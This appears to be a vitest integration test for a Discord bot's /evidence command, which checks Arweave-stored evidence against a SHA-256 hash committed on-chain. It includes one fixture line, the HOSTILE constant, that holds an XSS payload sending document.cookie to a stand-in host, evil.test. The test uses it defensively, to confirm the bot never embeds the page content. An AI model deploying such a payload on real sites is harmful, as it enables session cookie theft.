/**
 * /evidence on Discord: the real discord.js client on the local Discord server, the real chain
 * reader on the localnet with a campaign whose milestone is under review, and the real Arweave
 * store on arlocal. "Verified" only when the bytes match the SHA-256 the researcher submitted
 * on-chain; a mismatch is said so. The evidence (HTML with a script) is only a link in the
 * embed and a link button: nothing in the content for Discord to unfurl, nothing attached.
 */
import { createHash } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { arweaveIdToBytes } from "../../../bot/core/evidence-ids.js";
import type { InteractionRecord } from "../../discord-server/server.js";
import { CampaignFixture } from "../chain/support/campaign.js";
import { startHolderLocalnet, USDC, type HolderLocalnet } from "../telegram/holder-localnet.js";
import { startHarness, type Harness } from "./harness.js";

const LONG = 180_000;
const HOSTILE = '<script>fetch("https://evil.test/?c="+document.cookie)</script><h1>Assay results</h1>';

let net: HolderLocalnet;
let h: Harness;

beforeAll(async () => {
  net = await startHolderLocalnet();
  h = await startHarness({ writes: true, chain: () => net.reader });
}, LONG);
afterAll(async () => {
  await h?.stop();
  await net?.stop();
});
afterEach(() => {
  expect(h.server.failed).toEqual([]);
  expect(h.errors).toEqual([]);
});

/** Uploads `bytes` to arlocal and has the researcher submit milestone 1 with `hash` on-chain. */
async function inReview(bytes: Uint8Array, hash = createHash("sha256").update(bytes).digest()) {
  const { id } = await h.deps.writes!.evidence.upload(bytes, "text/html", { Type: "milestone-evidence" });
  await h.arlocal!.mine();
  const campaign = await CampaignFixture.active(net.protocol, [3_000, 3_500, 3_500], [100n * USDC]);
  await campaign.submitMilestone(0, { id: [...(arweaveIdToBytes(id) ?? [])], hash: [...hash] });
  return { address: campaign.address.toBase58(), id, sha256: createHash("sha256").update(bytes).digest("hex") };
}

interface Visible {
  content?: string;
  embeds?: { title?: string; description?: string }[];
  components?: { components?: { url?: string; label?: string }[] }[];
  attachments?: unknown[];
}

/** The final (ephemeral) answer as the member sees it. */
async function ask(options: Record<string, string | number>): Promise<Visible> {
  const ix: InteractionRecord = h.server.slash(h.member, "evidence", options);
  // The progress edit ("Fetching the evidence…") is not the answer.
  await ix.waitFor((c) => c.kind === "edit-original" && !(typeof c.body.content === "string" && c.body.content.endsWith("…")), 30_000);
  return ix.visible() ?? {};
}

const text = (v: Visible) => [v.content ?? "", ...(v.embeds ?? []).flatMap((e) => [e.title ?? "", e.description ?? ""])].join("\n");

describe("Discord /evidence on the localnet", () => {
  it(
    "GIVEN the milestone under review THEN verified, the configured gateway's link in the embed and a link button only, never the content",
    async () => {
      const bytes = new TextEncoder().encode(HOSTILE);
      const { address, id, sha256 } = await inReview(bytes);
      const answer = await ask({ campaign: address });
      const url = `${h.arlocal!.url}/${id}`;
      expect(text(answer)).toContain("Verified: the evidence matches what the researcher committed on-chain");
      expect(text(answer)).toContain(`Evidence: ${url}`);
      expect(text(answer)).toContain(`SHA-256 committed on-chain: \`${sha256}\``);
      expect(text(answer)).toContain(`Size ${bytes.length} bytes; declared type \`text/html\` (Dataset)`);
      expect(answer.components?.[0]?.components?.[0]).toMatchObject({ label: "Open evidence", url });
      // Nothing in the content for Discord to unfurl, nothing attached, never the page itself.
      expect(answer.content ?? "").not.toContain(url);
      expect(answer.attachments ?? []).toEqual([]);
      expect(JSON.stringify(answer)).not.toContain("<script>");

      const named = await ask({ campaign: address, milestone: 1 });
      expect(text(named)).toContain("No evidence has been submitted for that milestone yet.");
    },
    LONG,
  );

  it(
    "GIVEN a submission whose on-chain SHA-256 is not the stored bytes' THEN it does NOT match, with the bytes' real hash",
    async () => {
      const bytes = new TextEncoder().encode("the real data");
      const { address, sha256 } = await inReview(bytes, createHash("sha256").update("what the researcher promised").digest());
      const answer = text(await ask({ campaign: address, milestone: 0 }));
      expect(answer).toContain("Does NOT match what the researcher committed on-chain");
      expect(answer).toContain(`hash to \`${sha256}\``);
      expect(answer).not.toContain("Verified");
    },
    LONG,
  );
});
